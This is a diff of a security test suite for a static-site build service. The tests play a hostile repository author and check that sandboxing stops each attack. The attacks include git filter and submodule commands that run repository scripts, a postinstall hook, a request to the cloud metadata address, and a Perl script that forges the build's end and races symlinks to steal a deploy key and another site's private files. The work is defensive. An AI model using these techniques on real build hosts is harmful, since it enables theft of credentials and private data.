@@ -2,8 +2,12 @@
  * A repository whose author attacks the host through a build: its files, programs and network. If one line of the
  * sandbox or of the egress table stops an attack, the test removes that line and shows that the same push succeeds.
  */
-import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
+import { mkdtempSync, readFileSync, rmSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
 import type { Files } from "../../fakes/git-repository.ts";
+import { bundledBuilder } from "../../service/builder/harness.ts";
 import { gitServerName } from "../lab/git-server.ts";
 import { bootHost, type Host } from "../lab/host.ts";
 import { type Internal, internalSecret, startInternal } from "../lab/internal-services.ts";
@@ -99,11 +103,12 @@ describe("files that a build can read", () => {
     expect((await rebuild.visit("/stolen/secret.txt")).status).toBe(404);
     expect(await leaked(secret)).toBe("");
 
-    await host.inside("mkdir -p /source /content /out /cache");
-    await dropIn("pushgate-hugo-site@.service", "[Service]\nRootDirectory=\n");
+    await host.inside("mkdir -p /source /content /out /cache && touch /content-of-site");
+    const note = "BindReadOnlyPaths=/run/pushgate-hugo/root/content-of-site:/content-of-site";
+    await dropIn("pushgate-hugo-site@.service", `[Service]\n${note}\nRootDirectory=\n`);
     await built({});
     expect((await rebuild.visit("/stolen/secret.txt")).body).toContain(secret);
-    await host.inside("rmdir /source /content /out /cache");
+    await host.inside("rmdir /source /content /out /cache && rm /content-of-site");
   });
 
   test.each([
@@ -146,7 +151,7 @@ describe("files that a build can read", () => {
 
   test("no other account can read the builder's clone of a private repository", async () => {
     const { site } = placesOf("docs");
-    for (const user of ["guest", "www-data", "pushgate-receiver", "pushgate-hugo"]) {
+    for (const user of ["guest", "www-data", "pushgate-receiver", "pushgate-hugo-docs", "pushgate-build-site"]) {
       const { code } = await host.inside(`runuser -u ${user} -- ls ${site}/work/clone`, { check: false });
       expect(code, user).not.toBe(0);
     }
@@ -158,20 +163,32 @@ describe("programs that a build can run", () => {
   const ran = () => host.read("find / -xdev -name ran -type f 2>/dev/null || true");
 
   test("neither git nor the builder runs a script of the repository; a deploy script only triggers a build", async () => {
-    const status = await built({
+    // The host's owner has a filter of this name, as git-lfs installs one.
+    await host.writeFile("/etc/gitconfig", '[filter "run"]\nsmudge = sh deploy.sh; cat\n');
+    const scripts = {
       "deploy.sh": { program: mark },
       "bin/deploy": { program: mark },
       "scripts/deploy.sh": { program: mark },
-      "hooks/post-checkout": { program: mark },
-      ".githooks/post-merge": { program: mark },
-      ".gitattributes": "* filter=run diff=run merge=run\n",
-      ".gitconfig": '[filter "run"]\nsmudge = /bin/sh deploy.sh\n',
-      ".gitmodules": '[submodule "x"]\npath = x\nurl = ext::sh -c "touch /tmp/ran"\nupdate = !touch /tmp/ran\n',
-      x: { submodule: rebuild.repositories.site.head()! },
+      ".gitattributes": "*.txt filter=run\n",
       "package.json": '{ "scripts": { "postinstall": "touch /tmp/ran" } }',
-    });
-    expect(status.last!.result).toBe("published");
+    };
+    expect((await built({ ...scripts, "static/one.txt": "1" })).last!.result).toBe("published");
     expect(await ran()).toBe("");
+
+    const builder = "/usr/local/lib/pushgate/builder.cjs";
+    const folder = mkdtempSync(join(tmpdir(), "pushgate-weak-"));
+    const weak = await bundledBuilder(folder, ["git.ts", 'GIT_CONFIG_NOSYSTEM: "1",', ""]);
+    await idle(host, "site");
+    await host.inside(`cp -a ${builder} /root/builder.cjs`);
+    await host.writeFile(builder, readFileSync(weak, "utf8"));
+    try {
+      await built({ "static/two.txt": "2" });
+      expect((await ran()).split("\n")).toContain("/var/lib/pushgate-sites/site/ran");
+    } finally {
+      await idle(host, "site");
+      await host.inside(`mv /root/builder.cjs ${builder}; rm -f /etc/gitconfig /var/lib/pushgate-sites/site/ran`);
+      rmSync(folder, { recursive: true });
+    }
   });
 
   const css = '{{ (resources.FromString "a.css" "a{}" | resources.PostCSS).Content }}';
@@ -204,7 +221,7 @@ describe("programs that a build can run", () => {
     await built({ "layouts/index.html": remote("https://git.example.net/example/docs.git/HEAD") }, "docs");
     expect((await rebuild.visit("/", "docs")).body).toContain("refs/heads/main");
 
-    const metadata = { "layouts/index.html": remote("http://169.254.169.254:443/") };
+    const metadata = { "layouts/index.html": remote(`http://${internal.metadata}:443/`) };
     const requested = internal.requested.length;
     await built(metadata, "docs");
     expect(await leaked(internalSecret)).toBe("");
@@ -217,9 +234,97 @@ describe("programs that a build can run", () => {
   });
 });
 
+/**
+ * Code in Hugo's process: it reports the end of its build, closes the connection, lives on for six seconds and exchanges
+ * folders of the output for links while the builder looks at it. (A program that `hugo.exec` allows becomes such code by
+ * writing to /proc/<pid>/mem of Hugo, which has the same account.) `0.bin` delays the copy after the look.
+ */
+const targets = { key: "/run/credentials/pushgate-build-docs.service", clone: `${placesOf("site").site}/work/clone` };
+const forging = (...names: (keyof typeof targets)[]) => `#!/usr/bin/perl
+use Time::HiRes qw(sleep);
+my %links = (${names.map((name) => `${name} => "${targets[name]}"`).join(", ")});
+my %files = (key => "deploy-key", clone => "private.txt");
+sub put { open(my $file, ">", $_[0]) or die; print $file $_[1]; close $file }
+mkdir "/out/z";
+for (keys %links) { mkdir "/out/$_"; put("/out/$_/$files{$_}", "public") }
+put("/out/$_.html", "page") for 1..9;
+put("/out/index.html", "forged");
+put("/out/0.bin", "x" x 1e8);
+$| = 1;
+print "pushgate-hugo result=success code=exited status=0\n";
+shutdown(STDOUT, 2);
+for (1..12) {
+  sleep 0.1;
+  for (keys %links) { rename "/out/$_", "/out/z/$_"; symlink $links{$_}, "/out/$_" }
+  sleep 0.4;
+  for (keys %links) { unlink "/out/$_"; rename "/out/z/$_", "/out/$_" }
+}
+`;
+
+describe("a build that forges its end, lives on and exchanges folders for links", () => {
+  const clone = "PRIVATE-FILE-OF-ANOTHER-SITE";
+  const keyLine = () => rebuild.git.ssh.deployKey.split("\n")[2]!;
+  const stolen = async () => `${await leaked(keyLine())} ${await leaked(clone)}`.trim();
+  const builder = "/usr/local/lib/pushgate/builder.cjs";
+  const attack = () => built(siteFiles(`attack-${++turn}`), "docs");
+
+  beforeAll(async () => {
+    await built({ ...siteFiles(), "private.txt": `${clone}\n` });
+  });
+  beforeEach(() => dropIn("pushgate-hugo-docs@.service", "[Service]\nExecStart=\nExecStart=/usr/local/lib/forging\n"));
+  afterEach(async () => {
+    await host.inside("rm -rf /run/systemd/system/pushgate-*.d && systemctl daemon-reload");
+    await built(siteFiles(`repaired-${++turn}`), "docs");
+  });
+
+  test("publishes neither the deploy key nor another site's clone, and nothing before it ended", async () => {
+    await host.writeFile("/usr/local/lib/forging", forging("key", "clone"), "0755");
+    for (let round = 0; round < 2; round += 1) {
+      const began = performance.now();
+      expect((await attack()).last).toMatchObject({ result: "published" });
+      expect(performance.now() - began).toBeGreaterThan(6_000);
+      expect(await stolen()).toBe("");
+      expect(await host.read(`cat ${placesOf("docs").site}/current/key/deploy-key`)).toBe("public");
+    }
+  });
+
+  test("would publish the key, if the builder believed the connection, went by paths and had the key", async () => {
+    const folder = mkdtempSync(join(tmpdir(), "pushgate-weak-"));
+    const weak = await bundledBuilder(
+      folder,
+      [
+        "hugo.ts",
+        "...(await endOf(id!, result, until, isStopped))",
+        '...{ result: "success", code: "exited", status: "0" }',
+      ],
+      ["files.ts", 'if (process.platform !== "linux") return', "return"],
+    );
+    await idle(host, "docs");
+    await host.inside(`cp -a ${builder} /root/builder.cjs`);
+    await host.writeFile(builder, readFileSync(weak, "utf8"));
+    const given = "LoadCredentialEncrypted=deploy-key:/etc/pushgate/credentials/docs-deploy-key";
+    await dropIn("pushgate-build-docs.service", `[Service]\n${given}\n`);
+    // A link to the clone leads nowhere, as the builder's unit does not see it, and so stops the build.
+    await host.writeFile("/usr/local/lib/forging", forging("key"), "0755");
+    try {
+      let found = "";
+      for (let round = 0; round < 8 && found === ""; round += 1) {
+        await attack();
+        found = await stolen();
+        await host.inside("systemctl stop 'pushgate-hugo-docs@*.service'");
+      }
+      expect(found).toMatch(/releases\/\S+\/key\/deploy-key/);
+      await host.inside(`rm -f ${found.split("\n").join(" ")}`);
+    } finally {
+      await host.inside(`mv /root/builder.cjs ${builder}`);
+      rmSync(folder, { recursive: true });
+    }
+  });
+});
+
 /** units.test.ts in this folder tests the rules of the egress table. */
 describe("servers that a build can reach", () => {
-  const users = ["pushgate-builder", "pushgate-hugo"];
+  const users = ["pushgate-build-site", "pushgate-hugo-site"];
 
   test("the builder's accounts can query only the host's own resolver", async () => {
     await host.writeFile("/usr/local/bin/query-name", queryName, "0755");
@@ -231,12 +336,12 @@ describe("servers that a build can reach", () => {
     await query("guest", other.address);
     expect(other.queried).toHaveLength(1);
     other.close();
-    expect((await query("pushgate-builder", rebuild.git.resolver.address)).code).toBe(0);
+    expect((await query("pushgate-build-site", rebuild.git.resolver.address)).code).toBe(0);
   });
 
   test("the builder does not connect to a git host whose name suddenly resolves to an in-house address", async () => {
     await idle(host);
-    rebuild.git.resolver.names.set(gitServerName, [actors.internal.v4[0]]);
+    rebuild.git.resolver.names.set(gitServerName, [internal.inHouse]);
     const before = statusOf(host)!;
     const requested = internal.requested.length;
     const commit = await rebuild.push(siteFiles("in-house"));
